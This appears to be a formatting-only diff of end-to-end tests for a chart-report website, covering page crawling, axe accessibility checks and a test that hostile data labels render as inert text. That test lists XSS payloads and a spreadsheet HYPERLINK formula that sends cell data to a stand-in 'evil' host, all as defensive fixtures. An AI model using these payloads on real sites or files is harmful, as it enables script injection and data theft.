@@ -20,18 +20,28 @@ async function pagesOf(site: string, siteDir: string): Promise<{ path: string; c
   const page = await browser.newPage();
   await page.goto(`${site}/`);
   // Cards also link to a chart inside its report (`/reports/x/#chart`): the same page.
-  const reports = await page.$$eval('a[href^="/reports/"]', (links) => [...new Set(links.map((link) => link.getAttribute('href')!.split('#')[0]!))]);
+  const reports = await page.$$eval('a[href^="/reports/"]', (links) => [
+    ...new Set(links.map((link) => link.getAttribute('href')!.split('#')[0]!)),
+  ]);
   expect(reports.sort(), site).toEqual(sources.map((source) => `/reports/${source.slug}/`).sort());
-  const paths = ['/', '/404.html', '/explore/', '/data/', '/tags/', '/methodology/', '/search/?q=engagement'].map((path) => ({ path, charts: 0 }));
+  const paths = ['/', '/404.html', '/explore/', '/data/', '/tags/', '/methodology/', '/search/?q=engagement'].map(
+    (path) => ({ path, charts: 0 }),
+  );
   for (const report of reports) {
     const expected = sources.find((source) => report === `/reports/${source.slug}/`)!.charts;
     paths.push({ path: report, charts: expected });
     await page.goto(`${site}${report}`);
     // One chart page and one embed per report: every chart page is built from the same template.
-    const charts = await page.$$eval('.chart__links a[href*="/charts/"]', (links) => links.map((link) => link.getAttribute('href')!));
+    const charts = await page.$$eval('.chart__links a[href*="/charts/"]', (links) =>
+      links.map((link) => link.getAttribute('href')!),
+    );
     expect(charts, report).toHaveLength(expected);
     const chart = charts[0];
-    if (chart) paths.push({ path: chart, charts: 1 }, { path: chart.replace(/^\/reports\/([^/]+)\/charts\/([^/]+)\/$/, '/embed/$1/$2/'), charts: 1 });
+    if (chart)
+      paths.push(
+        { path: chart, charts: 1 },
+        { path: chart.replace(/^\/reports\/([^/]+)\/charts\/([^/]+)\/$/, '/embed/$1/$2/'), charts: 1 },
+      );
   }
   await page.close();
   // Both sites have charts, so chart pages and embeds are always among the pages checked.
@@ -43,9 +53,15 @@ describe('accessibility (axe)', () => {
   for (const dark of [false, true]) {
     it(`finds no violations on any kind of page in ${dark ? 'dark' : 'light'} mode`, { timeout: 240_000 }, async () => {
       const violations: string[] = [];
-      for (const [site, siteDir] of [[example!, SITE_DIRS[0]], [fixture!, SITE_DIRS[1]]] as const) {
+      for (const [site, siteDir] of [
+        [example!, SITE_DIRS[0]],
+        [fixture!, SITE_DIRS[1]],
+      ] as const) {
         for (const { path, charts } of await pagesOf(site, siteDir)) {
-          const context = await browser.newContext({ colorScheme: dark ? 'dark' : 'light', viewport: { width: 1280, height: 900 } });
+          const context = await browser.newContext({
+            colorScheme: dark ? 'dark' : 'light',
+            viewport: { width: 1280, height: 900 },
+          });
           const page = await context.newPage();
           await page.goto(`${site}${path}`, { waitUntil: 'load' });
           if (path === '/explore/') await page.waitForSelector('[data-explore][data-explore-state="drawn"]');
@@ -57,11 +73,20 @@ describe('accessibility (axe)', () => {
               await new Promise((done) => setTimeout(done, 50));
             }
           });
-          await page.waitForFunction(() => [...document.querySelectorAll<HTMLElement>('figure[data-chart]')].every((figure) => figure.dataset.chartState === 'drawn'));
+          await page.waitForFunction(() =>
+            [...document.querySelectorAll<HTMLElement>('figure[data-chart]')].every(
+              (figure) => figure.dataset.chartState === 'drawn',
+            ),
+          );
           await page.evaluate(() => window.scrollTo(0, 0));
           const results = await new AxeBuilder({ page }).analyze();
           for (const violation of results.violations) {
-            violations.push(`${path}: ${violation.id} (${violation.impact}) ${violation.nodes.map((node) => node.target.join(' ')).slice(0, 3).join(', ')}`);
+            violations.push(
+              `${path}: ${violation.id} (${violation.impact}) ${violation.nodes
+                .map((node) => node.target.join(' '))
+                .slice(0, 3)
+                .join(', ')}`,
+            );
           }
           await context.close();
         }
@@ -82,21 +107,31 @@ describe('hostile labels in the data', () => {
     });
     await page.goto(`${fixture}/reports/hostile/`);
     await page.locator('#hostile-labels').scrollIntoViewIfNeeded();
-    await page.waitForFunction(() => document.querySelector<HTMLElement>('#hostile-labels')?.dataset.chartState === 'drawn');
+    await page.waitForFunction(
+      () => document.querySelector<HTMLElement>('#hostile-labels')?.dataset.chartState === 'drawn',
+    );
     // Hovering the chart shows tooltips with the labels, drawn as text on the canvas.
     const box = (await page.locator('#hostile-labels canvas').boundingBox())!;
     await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
     await page.waitForTimeout(200);
     const headers = await page.$$eval('#hostile-labels thead th', (cells) => cells.map((cell) => cell.textContent));
     const alt = await page.getAttribute('#hostile-labels canvas', 'aria-label');
-    const injected = await page.evaluate(() => document.querySelectorAll('img[src="x"], main b, main script:not([type])').length);
+    const injected = await page.evaluate(
+      () => document.querySelectorAll('img[src="x"], main b, main script:not([type])').length,
+    );
     const title = await page.title();
     await context.close();
     expect(dialogs).toEqual([]);
     expect(injected).toBe(0);
     // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile header that must stay literal text.
     const templateLike = '{{x}} and ${y} and U+2028:\u2028end';
-    expect(headers).toEqual(['Year', '<img src=x onerror=alert(1)>', '</script><script>alert(2)</script>', '=HYPERLINK("http://evil/?"&A1,"Click")', templateLike]);
+    expect(headers).toEqual([
+      'Year',
+      '<img src=x onerror=alert(1)>',
+      '</script><script>alert(2)</script>',
+      '=HYPERLINK("http://evil/?"&A1,"Click")',
+      templateLike,
+    ]);
     expect(alt).toContain('<img src=x onerror=alert(1)>');
     expect(title).toBe('Labels that try to be code: <script>alert(1)</script> & "quotes" · Trendbook');
   });
